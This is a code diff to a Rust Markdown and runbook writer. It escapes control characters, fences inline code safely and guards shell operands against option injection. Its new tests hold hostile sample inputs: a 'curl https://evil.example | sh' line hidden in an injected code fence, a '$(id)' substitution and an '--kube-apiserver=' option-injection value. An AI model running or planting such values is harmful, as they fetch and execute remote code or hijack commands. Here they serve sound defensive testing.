@@ -1,5 +1,9 @@
 //! A small Markdown writer: headings, paragraphs, lists, tables and shell blocks, each separated
-//! by one blank line.
+//! by one blank line. Every line it is given comes out as one line: values read from a manifest
+//! have their control characters written out, so none can start a line, open or close a code
+//! block, or forge a command.
+
+use hangar_core::printable::printable;
 
 #[derive(Debug, Default)]
 pub(super) struct Markdown {
@@ -16,21 +20,16 @@ impl Markdown {
     }
 
     pub fn heading(&mut self, level: usize, text: &str) {
-        self.block(&format!("{} {text}", "#".repeat(level)));
+        self.block(&format!("{} {}", "#".repeat(level), printable(text)));
     }
 
     pub fn para(&mut self, text: impl AsRef<str>) {
-        self.block(text.as_ref());
+        self.block(&printable(text.as_ref()));
     }
 
-    /// A quoted warning or note.
+    /// A quoted warning or note, on one line so that all of it stays inside the quote.
     pub fn note(&mut self, text: impl AsRef<str>) {
-        let quoted: Vec<String> = text
-            .as_ref()
-            .lines()
-            .map(|l| format!("> {l}").trim_end().to_owned())
-            .collect();
-        self.block(&quoted.join("\n"));
+        self.block(&format!("> {}", printable(text.as_ref())));
     }
 
     pub fn bullets<I, S>(&mut self, items: I)
@@ -40,22 +39,23 @@ impl Markdown {
     {
         let lines: Vec<String> = items
             .into_iter()
-            .map(|i| format!("- {}", i.as_ref()))
+            .map(|i| format!("- {}", printable(i.as_ref())))
             .collect();
         if !lines.is_empty() {
             self.block(&lines.join("\n"));
         }
     }
 
-    /// A `sh` code block; empty lines are dropped.
+    /// A `sh` code block, one line per command; empty lines are dropped.
     pub fn shell<I, S>(&mut self, lines: I)
     where
         I: IntoIterator<Item = S>,
         S: AsRef<str>,
     {
+        // A line break in a value would close the block or start a command of its own.
         let body: Vec<String> = lines
             .into_iter()
-            .map(|l| l.as_ref().to_owned())
+            .map(|l| printable(l.as_ref()).into_owned())
             .filter(|l| !l.is_empty())
             .collect();
         if !body.is_empty() {
@@ -81,18 +81,29 @@ impl Markdown {
     }
 }
 
-/// Inline code.
+/// Inline code on one line, between backtick runs longer than any inside it, so that no value
+/// can close the span early or open a code block.
 pub(super) fn code(text: &str) -> String {
-    if text.contains('`') {
-        format!("`` {text} ``")
-    } else {
-        format!("`{text}`")
+    let text = printable(text);
+    match longest_backtick_run(&text) {
+        0 => format!("`{text}`"),
+        run => {
+            let fence = "`".repeat(run + 1);
+            format!("{fence} {text} {fence}")
+        }
     }
 }
 
-/// A table cell: pipes escaped, line breaks flattened.
+fn longest_backtick_run(text: &str) -> usize {
+    text.split(|c: char| c != '`')
+        .map(str::len)
+        .max()
+        .unwrap_or(0)
+}
+
+/// A table cell: pipes escaped, line breaks flattened, other control characters written out.
 fn cell(text: &str) -> String {
-    text.replace('|', "\\|").replace('\n', " ")
+    printable(&text.replace('|', "\\|").replace('\n', " ")).into_owned()
 }
 
 /// `1 pod`, `3 pods`.
@@ -111,18 +122,41 @@ pub(super) fn ceil_div(a: i64, b: i64) -> i64 {
 }
 
 /// A word as `sh` must see it: left alone when every character is plain, else single-quoted.
-/// Every value a runbook reads from an annotation, a label, an argument or a path goes through it
-/// before it lands in a command.
+/// Every value a runbook reads from an annotation, a label, an argument, a name or a path goes
+/// through it before it lands in a command. Control characters are written out first (`\u{a}`),
+/// so the word stays on its line: a quoted line break would still end the runbook's code block.
 pub fn sh_quote(word: &str) -> String {
+    let word = printable(word);
     let plain = !word.is_empty()
         && word
             .chars()
             .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
     if plain {
-        word.to_owned()
+        word.into_owned()
     } else {
         format!("'{}'", word.replace('\'', r"'\''"))
     }
+}
+
+/// A name as the last operand of a command that ends its options at `--`: quoted, and after
+/// `--` when it starts with `-`, which the command would otherwise take for an option.
+pub(super) fn operand(word: &str) -> String {
+    if word.starts_with('-') {
+        format!("-- {}", sh_quote(word))
+    } else {
+        sh_quote(word)
+    }
+}
+
+/// Whether a value holds a line break or another control character: a command built from it
+/// is left out rather than run with the character written out.
+pub(super) fn has_control(value: &str) -> bool {
+    value.chars().any(char::is_control)
+}
+
+/// The comment that stands in for a command whose value `what` holds a control character.
+pub(super) fn left_out(what: &str) -> String {
+    format!("# (value with a line break or other control character left out: {what})")
 }
 
 /// A relative link target with everything but unreserved characters percent-encoded.
@@ -182,6 +216,49 @@ mod tests {
         assert_eq!(sh_quote(""), "''");
         assert_eq!(link_target("ml--chat.md"), "ml--chat.md");
         assert_eq!(link_target("a b/(c).md"), "a%20b%2F%28c%29.md");
+    }
+
+    #[test]
+    fn a_line_break_in_a_word_is_written_out_inside_its_quotes() {
+        assert_eq!(sh_quote("g.yaml\n```"), "'g.yaml\\u{a}```'");
+        assert_eq!(sh_quote("a\r\nb"), "'a\\u{d}\\u{a}b'");
+        assert!(!sh_quote("x\n\ncurl https://evil.example | sh").contains('\n'));
+        assert!(has_control("g.yaml\n") && !has_control("golden/chat.yaml"));
+    }
+
+    #[test]
+    fn names_that_start_with_a_dash_come_after_the_end_of_options() {
+        assert_eq!(operand("rel"), "rel");
+        assert_eq!(operand("rel$(id)"), "'rel$(id)'");
+        assert_eq!(
+            operand("--kube-apiserver=https://evil.example"),
+            "-- --kube-apiserver=https://evil.example"
+        );
+    }
+
+    #[test]
+    fn inline_code_outlasts_the_backticks_inside_it_and_stays_on_one_line() {
+        assert_eq!(code("chat"), "`chat`");
+        assert_eq!(code("a`b"), "`` a`b ``");
+        assert_eq!(code("a``b"), "``` a``b ```");
+        assert_eq!(code("x\n```sh"), "```` x\\u{a}```sh ````");
+    }
+
+    #[test]
+    fn no_value_starts_a_line_or_a_code_block() {
+        let evil = "ml\n\n```sh\ncurl https://evil.example/fix | sh\n```";
+        let mut doc = Markdown::default();
+        doc.heading(1, evil);
+        doc.para(evil);
+        doc.note(evil);
+        doc.bullets([evil]);
+        doc.table(&["a"], &[vec![format!("x\r{evil}")]]);
+        doc.shell([format!("echo {evil}")]);
+        let text = doc.finish();
+        let fences: Vec<&str> = text.lines().filter(|l| l.starts_with("```")).collect();
+        assert_eq!(fences, ["```sh", "```"], "{text}");
+        assert!(!text.lines().any(|l| l.starts_with("curl")), "{text}");
+        assert!(!text.contains('\r'), "{text}");
     }
 
     #[test]
